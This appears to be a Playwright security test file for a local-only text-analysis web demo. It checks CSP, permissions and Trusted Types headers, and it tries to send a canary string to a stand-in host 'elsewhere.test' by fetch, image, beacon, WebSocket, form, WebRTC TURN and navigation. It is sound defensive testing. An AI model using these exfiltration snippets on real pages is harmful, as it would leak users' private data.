import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import {
  DENIED_FEATURES,
  headerPolicy,
  metaPolicy,
  permissionsPolicy,
  USED_FEATURES,
} from '../scripts/headers.js';
import { CANARY, hasCanary } from './support/canary.ts';
import { engineWorker } from './support/demo.ts';
import { offlineStatus } from './support/keptPage.ts';
import { expect, test } from './support/test.ts';

const TEXT = `Anna Berg was born in Oslo. ${CANARY} works for Acme Labs.`;

/** A host that exists nowhere; the proxy answers for it. */
const ELSEWHERE = 'elsewhere.test';

/** All ways that we know of by which a page could tell somebody something. */
const LEAKS: Record<string, (page: Page, text: string) => Promise<unknown>> = {
  fetch: (page, body) =>
    page.evaluate(
      ([url, text]) => fetch(url, { method: 'POST', mode: 'no-cors', body: text }).catch(() => 0),
      [`http://${ELSEWHERE}/fetch`, body] as const,
    ),
  header: (page, text) =>
    page.evaluate(([url, value]) => fetch(url, { headers: { Accept: value } }).catch(() => 0), [
      `http://${ELSEWHERE}/header`,
      Buffer.from(text).toString('base64'),
    ] as const),
  image: (page, text) =>
    page.evaluate(
      ([url, query]) => {
        new Image().src = `${url}?${encodeURIComponent(query)}`;
      },
      [`http://${ELSEWHERE}/image`, text] as const,
    ),
  beacon: (page, body) =>
    page.evaluate(([url, text]) => navigator.sendBeacon(url, text), [
      `http://${ELSEWHERE}/beacon`,
      body,
    ] as const),
  websocket: (page, text) =>
    page.evaluate(
      ([url, query]) => {
        try {
          new WebSocket(`${url}?${encodeURIComponent(query)}`);
        } catch {
          // The policy may forbid it at once.
        }
      },
      [`ws://${ELSEWHERE}/websocket`, text] as const,
    ),
  form: (page, text) =>
    page.evaluate(
      ([action, value]) => {
        const form = document.createElement('form');
        form.action = action;
        form.method = 'post';
        const field = document.createElement('input');
        field.name = 'text';
        field.value = value;
        form.append(field);
        document.body.append(form);
        form.submit();
      },
      [`http://${ELSEWHERE}/form`, text] as const,
    ),
};

/** What is kept of the page must not be a way out. */
const WORKERS = { 'without a service worker': 'block', 'with a service worker': 'allow' } as const;

for (const [name, serviceWorkers] of Object.entries(WORKERS)) {
  test.describe(() => {
    test.use({ serviceWorkers });

    test(`${name}: no request leaves the origin, and none carries the text`, async ({
      proxied,
      baseURL,
      guard,
    }) => {
      const { demo, proxy } = proxied;
      const { page } = demo;
      await demo.open('model=tiny:flat&device=wasm');
      if (serviceWorkers === 'allow') {
        // From now on it stands between page and server; what it asks for itself is over.
        await expect(offlineStatus(page)).toContainText('The page opens without a network');
      }
      await demo.analyse(TEXT);
      await demo.slide(demo.lambda, 0.3);
      await demo.slide(demo.tau, 0.7);
      expect(await demo.downloadJson()).toContain(CANARY);
      expect(await demo.copyJson()).toContain(CANARY);

      expect(proxy.ofPages.some(({ url }) => url.includes('/models/tiny/'))).toBe(true);
      for (const { method, url } of proxy.ofPages) {
        expect(method, url).toBe('GET');
        expect(new URL(url).origin).toBe(new URL(baseURL ?? '').origin);
      }
      for (const { url, bytes } of proxy.requests) expect(hasCanary(bytes), url).toBe(false);
      expect(guard.troubles).toEqual([]);

      await test.step('where something tried, the policy would stop it', async () => {
        guard.allow(
          new RegExp(`securitypolicyviolation|Content Security Policy|${ELSEWHERE}`, 'u'),
        );
        const before = proxy.ofPages.length;
        for (const leak of Object.values(LEAKS)) await leak(page, CANARY);
        // A request that is allowed comes after all that were tried before it.
        await page.evaluate(() => fetch('favicon.svg', { cache: 'no-store' }));
        // The browser looks by itself, whenever it likes, whether the service worker is a new one.
        const asked = proxy.ofPages.slice(before).map(({ url }) => new URL(url).pathname);
        expect(asked.filter((path) => path !== '/service-worker.js')).toEqual(['/favicon.svg']);
        for (const { url, bytes } of proxy.requests) expect(hasCanary(bytes), url).toBe(false);
        expect(guard.everything.join('\n')).toContain('securitypolicyviolation');
      });
    });
  });
}

test('the test would see a page that leaks', async ({ proxied, guard }) => {
  guard.allow(new RegExp(ELSEWHERE, 'u'));
  const { demo, proxy } = proxied;
  for (const [name, leak] of Object.entries(LEAKS)) {
    await demo.page.goto(`http://${ELSEWHERE}/empty`);
    await leak(demo.page, CANARY);
    const seen = () =>
      proxy.ofPages.some(({ bytes }) => bytes.includes(`/${name}`) && hasCanary(bytes));
    await expect.poll(seen, { message: name }).toBe(true);
  }
  expect(guard.everything.filter((trouble) => trouble.startsWith('left:')).length).toBeGreaterThan(
    Object.keys(LEAKS).length,
  );
});

test('no script finds a way to other machines that the policy does not know', async ({
  page,
  demo,
}) => {
  const taken: string[] = [];
  const server = createServer((socket) => {
    taken.push('a connection');
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  /** Asks a TURN server for an address, which has what the page wants to tell as its name. */
  const call = (to: Page) =>
    to.evaluate(async (own) => {
      const name = ['RTCPeerConnection', 'webkitRTCPeerConnection'].find(
        (one) => one in globalThis,
      );
      if (name === undefined) return 'no way';
      const urls = `turn:127.0.0.1:${own}?transport=tcp`;
      const peer = new RTCPeerConnection({
        iceServers: [{ urls, username: 'text', credential: 'x' }],
        iceTransportPolicy: 'relay',
      });
      peer.createDataChannel('leak');
      await peer.setLocalDescription();
      return 'called';
    }, port);

  await demo.open('model=tiny:flat&device=wasm');
  expect(await call(page)).toBe('no way');
  await demo.analyse(TEXT);
  const worker = await engineWorker(page);
  expect(await worker.evaluate(() => 'RTCPeerConnection' in globalThis)).toBe(false);
  expect(taken).toEqual([]);

  await test.step('the test would see one', async () => {
    await page.route('**/empty.html', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Empty</title>' }),
    );
    await page.goto('empty.html');
    expect(await call(page)).toBe('called');
    await expect.poll(() => taken.length).toBeGreaterThan(0);
  });
  server.close();
});

test('a script that leads the reader away can take the text along: no page can stop that', async ({
  proxied,
  guard,
}) => {
  guard.allow(new RegExp(ELSEWHERE, 'u'));
  const { demo, proxy } = proxied;
  await demo.open('model=tiny:flat&device=wasm');
  await demo.page.evaluate(
    ([url, text]) => {
      location.href = `${url}?${encodeURIComponent(text)}`;
    },
    [`http://${ELSEWHERE}/navigation`, CANARY] as const,
  );
  // README says so. Where a browser learns to stop it, this fails, and README can say that.
  await expect.poll(() => proxy.ofPages.some(({ bytes }) => hasCanary(bytes))).toBe(true);
});

test('page and worker carry the policy', async ({ page, request, demo }) => {
  const opening = page.waitForResponse(
    (response) => response.request().resourceType() === 'document',
  );
  await demo.open('model=tiny&device=wasm');
  const opened = (await opening).headers();
  expect(opened['content-security-policy']).toBe(headerPolicy({ document: true }));
  expect(opened['cross-origin-opener-policy']).toBe('same-origin');
  expect(opened['cross-origin-embedder-policy']).toBe('require-corp');
  const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(meta).toHaveAttribute('content', metaPolicy());

  const working = page.waitForEvent('worker');
  await demo.start('Oslo');
  const script = (await working).url();
  for (const address of [script, 'service-worker.js']) {
    const headers = (await request.get(address)).headers();
    expect(headers['content-security-policy']).toBe(headerPolicy({ document: false }));
    expect(headers['cross-origin-embedder-policy']).toBe('require-corp');
  }
  // Word for word, so that nothing is let in by mistake.
  expect(headerPolicy({ document: false })).toBe(
    "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src 'self'; " +
      "connect-src 'self'; style-src 'self'; img-src 'self' blob: data:; font-src 'self'; " +
      "manifest-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'self'",
  );
});

/** What of the features that a page may be allowed this one is, as far as the browser knows them. */
interface FeaturePolicy {
  features(): string[];
  allowedFeatures(): string[];
}

test('the page may do what it needs and no more', async ({ page, demo }) => {
  const opening = page.waitForResponse(
    (response) => response.request().resourceType() === 'document',
  );
  await demo.open('model=tiny');
  const headers = (await opening).headers();
  expect(headers['permissions-policy']).toBe(permissionsPolicy());
  expect(headers['referrer-policy']).toBe('no-referrer');
  expect(headers['x-content-type-options']).toBe('nosniff');
  const { known, allowed } = await page.evaluate(() => {
    const { featurePolicy } = document as unknown as { featurePolicy: FeaturePolicy };
    return { known: featurePolicy.features(), allowed: featurePolicy.allowedFeatures() };
  });
  expect(known).toEqual(expect.arrayContaining(USED_FEATURES));
  expect(allowed).toEqual(expect.arrayContaining(USED_FEATURES));
  expect(allowed.filter((name) => DENIED_FEATURES.includes(name))).toEqual([]);
});

test('the page makes a script of no text, but by its one policy for its worker', async ({
  page,
  demo,
  guard,
}) => {
  guard.allow(/Trusted|trusted-types/u);
  await demo.open('model=tiny');
  const refused = await page.evaluate(() => {
    const { trustedTypes } = globalThis as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): unknown };
    };
    const attempts: Record<string, () => unknown> = {
      markup: () => {
        document.createElement('div').innerHTML = '<b>markup</b>';
      },
      'script address': () => {
        document.createElement('script').src = 'data:text/javascript,1';
      },
      worker: () => new Worker('assets/other.js'),
      policy: () => trustedTypes.createPolicy('another', {}),
      'the same policy again': () => trustedTypes.createPolicy('iter-web', {}),
    };
    return Object.entries(attempts).flatMap(([name, attempt]) => {
      try {
        attempt();
        return [];
      } catch (error) {
        return error instanceof TypeError ? [name] : [];
      }
    });
  });
  expect(refused).toEqual([
    'markup',
    'script address',
    'worker',
    'policy',
    'the same policy again',
  ]);
});
